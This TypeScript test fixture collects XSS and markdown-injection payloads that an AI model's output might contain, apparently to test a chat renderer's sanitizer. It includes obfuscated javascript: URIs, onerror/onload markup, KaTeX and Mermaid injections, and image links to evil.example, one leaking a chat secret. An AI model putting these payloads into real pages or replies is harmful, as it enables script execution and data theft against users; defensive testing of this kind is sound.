/**
 * What a model could write to run script or to load something from elsewhere. Script that ran
 * would set `window.__pwned`; what is loaded would come from `evil.example`. Markup is in
 * payloads-markup.ts, the rest here.
 */
import { markup } from "./payloads-markup";

const evil = "https://evil.example";
const run = "window.__pwned=1";
const svg = `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>`;
const page = `data:text/html,<script>parent.${run}</script>`;

/** Addresses that run or show what they must not, in every spelling we know of. */
const addresses = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `javascript&colon;${run}`,
  `javascript&#58;${run}`,
  `javascript&#x3A;${run}`,
  `&#106;avascript:${run}`,
  `&#x6A&#x61&#x76&#x61script:${run}`,
  `java&Tab;script:${run}`,
  `java&NewLine;script:${run}`,
  `java\tscript:${run}`,
  `java%0ascript:${run}`,
  `javascript%3A${run}`,
  `\u0001javascript:${run}`,
  `&#1;javascript:${run}`,
  `\u00a0javascript:${run}`,
  `\u200bjavascript:${run}`,
  `java\u00adscript:${run}`,
  `javascript\uff1a${run}`,
  `\u202ejavascript:${run}`,
  `javascript://example.com/%0a${run}`,
  `javascript:/*--></title></style>${run}//`,
  `\\javascript:${run}`,
  `javascript\\:${run}`,
  `feed:javascript:${run}`,
  `view-source:javascript:${run}`,
  `vbscript:msgbox(1)`,
  `livescript:${run}`,
  page.replaceAll(" ", "%20"),
  `data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZD0xPC9zY3JpcHQ+`,
  `data:application/xhtml+xml,<x/>`,
  svg.replaceAll(" ", "%20"),
  `file:///etc/passwd`,
  `blob:${evil}/1`,
  `filesystem:${evil}/temporary/x`,
  `about:blank`,
  `intent://scan/#Intent;scheme=zxing;end`,
  `ws://evil.example`,
  `tel:+1`,
  `sms:+1`,
  `//evil.example/x`,
  `\\\\evil.example\\x`,
  `/\\evil.example`,
  `/api/auth/signout`,
  `?next=//evil.example`,
  `#location`,
  `https:evil.example`,
  `http:\\\\evil.example`,
  `https://user:pass@evil.example`,
];

const links = addresses.flatMap((address, n) => [
  `[a](<${address}>)`,
  `[b${n}]\n\n[b${n}]: <${address}>`,
]);
const bare = addresses.map((address) => `[c](${address}) <${address}> ${address}`);
const pictures = addresses.map((address) => `![d](<${address}>)`);

const images = [
  `![x](${evil}/plain.png)`,
  `![x](${evil}/title.png "t\\" onerror=${run}")`,
  `![x" onerror="${run}](${evil}/alt.png)`,
  `![x][i]\n\n[i]: ${evil}/reference.png 'onload=${run}'`,
  `![i]\n\n[i]: ${evil}/collapsed.png`,
  `[![x](${evil}/inside.png)](${evil}/outside)`,
  `[a ![b ![c](${evil}/3.png)](${evil}/2.png) d](${evil}/1)`,
  `![x](//evil.example/relative.png)`,
  `![x](\\\\evil.example\\back.png)`,
  `![x](http://evil.example:80/?q=the+secret+of+the+chat)`,
  `![x](/\\evil.example/slash.png)`,
  `![x](</api/auth/signout>)`,
  `![x](blob:${evil}/1)`,
];

const math = [
  `$\\href{javascript:${run}}{x}$`,
  `$$\\href{data:text/html,x}{\\text{click}}$$`,
  `$\\url{javascript:${run}}$`,
  `$\\includegraphics[height=1em]{${evil}/katex.png}$`,
  `$\\htmlData{x=1, onclick=${run}}{y}$`,
  `$\\htmlStyle{background:url(${evil}/katex-style)}{y}$`,
  `$\\htmlId{location}{y}$ $\\htmlClass{dock}{y}$`,
  `$\\unicode{x3Cscript>${run}</script>}$`,
  `$\\text{<img src=x onerror=${run}>}$`,
  `$<script>${run}</script>$`,
  `$\\color{red;background:url(${evil}/colour)}{x}$`,
  `$\\def\\x{\\x\\x}\\x$ $\\newcommand{\\y}{\\y\\y}\\y$`,
  `$\\rule{99999em}{99999em}$ $\\kern{-99999em}x$`,
  `\\(\\href{vbscript:x}{y}\\) \\[\\url{${evil}}\\]`,
  `\`\`\`math\n\\href{javascript:${run}}{x}\n\`\`\``,
];

const fences = [
  `\`\`\`mermaid\ngraph TD; A["<img src=x onerror=${run}>"] --> B\nclick A "javascript:${run}"\n\`\`\``,
  `\`\`\`mermaid\n%%{init: {"themeCSS": "*{background:url(${evil}/mermaid)}"}}%%\ngraph TD; A-->B\n\`\`\``,
  `\`\`\`"><img/src=x/onerror=${run}>\nx\n\`\`\``,
  `\`\`\`<script>${run}</script>\nx\n\`\`\``,
  `\`\`\`js" onmouseover="${run}\nx\n\`\`\``,
  `\`\`\`html\n<script>${run}</script><img src=${evil}/fence.png>\n\`\`\``,
  `\`\`\`svg\n<svg onload="${run}"><image href="${evil}/fence.svg"/></svg>\n\`\`\``,
  `~~~__proto__\nx\n~~~\n\n~~~constructor\nx\n~~~`,
  `\`<img src=x onerror=${run}>\` and \`\`<script>${run}</script>\`\``,
  `    <script>${run}</script>`,
];

const structures = [
  `| <img src=x onerror=${run}> | [a](javascript:${run}) |\n|---|---|\n| <svg onload=${run}> | ![x](${evil}/cell.png) |`,
  `A note[^<img>].[^n]\n\n[^n]: <img src=x onerror=${run}> [a](javascript:${run}) ![x](${evil}/note.png)`,
  `x[^location] y[^cookie]\n\n[^location]: a\n\n[^cookie]: b`,
  `- [x] <input autofocus onfocus=${run}>\n- [ ] [a](javascript:${run})`,
  `# <a name="cookie" id="location">x</a> ![x](${evil}/head.png)`,
  `> <blockquote cite="javascript:${run}">x</blockquote>`,
  `**<b onclick=${run}>bold** _<i style="background:url(${evil}/i)">i_`,
  `[a]("onmouseover="${run}) [a](x"onmouseover="${run})`,
  `[a](${evil} "t\\" onclick=\\"${run}")`,
  `[<img src=x onerror=${run}>](${evil})`,
  `<${evil}/auto> www.evil.example mailto:a@evil.example evil@evil.example`,
  `${evil}/preview?link=1\n\n${evil}/favicon.ico`,
  `[a](javascript:${run}\n"x")`,
  `[a]: javascript:${run}\n[A]: https://example.com\n\n[a] [A]`,
];

const characters = [
  `\u0000<script>\u0000${run}</script>`,
  `<scr\u0000ipt>${run}</scr\u0000ipt>`,
  `\u202e<tpircs>${run}\u202c [\u202egnp.x](${evil})`,
  `\u2066\u2067\u2068[x](javascript:${run})`,
  `\ufeff<script>${run}</script>`,
  `\uff1cscript\uff1e${run}\uff1c/script\uff1e`,
  `&lt;script&gt;${run}&lt;/script&gt; &#60;img src=x onerror=${run}&#62;`,
  `\\<script>${run}\\</script>`,
  `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
  `</p></div></main></body></html><script>${run}</script>`,
  `]]>--></textarea></title></noscript></template><script>${run}</script>`,
  `\u2028<script>${run}</script>\u2029`,
  `{{constructor.constructor('${run}')()}} \${${run}} <%= ${run} %>`,
  `$RC("B:0","S:0") self.__next_f.push([1,"<script>${run}</script>"])`,
];

/** What may swallow what comes after it: each is an answer of its own. */
const endless = [
  `<script>${run}`,
  `<!-- <img src=x onerror=${run}>`,
  `<![CDATA[<img src=x onerror=${run}>`,
  `<style>@import "${evil}/open.css";`,
  `<textarea><img src=x onerror=${run}>`,
  `\`\`\`html\n<img src=x onerror=${run}>`,
  `$$\n\\href{javascript:${run}}{x}`,
];

const deep = 5000;
const words = (word: string) => word.repeat(deep);
/** What is too deep to be taken apart. */
const nested = [
  `${words(">")}x`,
  `${words("- ")}x`,
  `${words("> - 1. ")}x`,
  `${words("*")}x${words("*")}`,
  `${words("[")}x${words("](a)")}`,
  `$${words("{")}x${words("}")}$`,
];

/** What is too much of one thing. */
export const many = [
  words("["),
  `${words("![")}x${words("](a)")}`,
  words("*"),
  `${words("*a ")}${words("a* ")}`,
  `${words("_a *b ")}${words("b* a_ ")}`,
  `${words("<a ")}${words("<b>")}`,
  words("~~a "),
];

export const payloads = {
  markup,
  links: [...links, ...bare],
  pictures: [...pictures, ...images],
  mathAndCode: [...math, ...fences],
  structures: [...structures, ...characters],
};

export const alone = { endless, nested };

/** Names that a model, a person or an admin could give. */
export const names = [
  `<script>${run}</script>`,
  `</title><script>${run}</script>`,
  `<img src=x onerror=${run}>`,
  `"><svg onload=${run}>`,
  `[a](javascript:${run})`,
  `![x](${evil}/name.png)`,
  `\${${run}}{{${run}}}`,
  `</script><script>${run}//`,
];
